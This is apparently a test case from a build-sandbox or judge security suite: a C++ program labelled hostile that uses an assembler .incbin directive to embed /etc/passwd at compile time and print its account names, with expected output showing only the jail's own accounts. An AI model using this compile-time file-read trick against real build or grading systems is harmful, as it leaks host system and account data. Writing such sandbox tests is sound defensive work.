// hostile: G07 carries off the environment and the accounts that the compiler sees
// covers: G:incbin-environ
// shape: source
// ending: exited 0
// verdict: none
// reward: none
// out: root
// out: candidate
// The jail's own two, and nobody of the host.
#include <cstdio>
#include <cstring>
__asm__(".data\n.globl accounts\naccounts: .incbin \"/etc/passwd\"\n.byte 0\n");
extern "C" char accounts[];
int main() {
  for (char* line = strtok(accounts, "\n"); line; line = strtok(nullptr, "\n")) {
    line[strcspn(line, ":")] = 0;
    puts(line);
  }
}
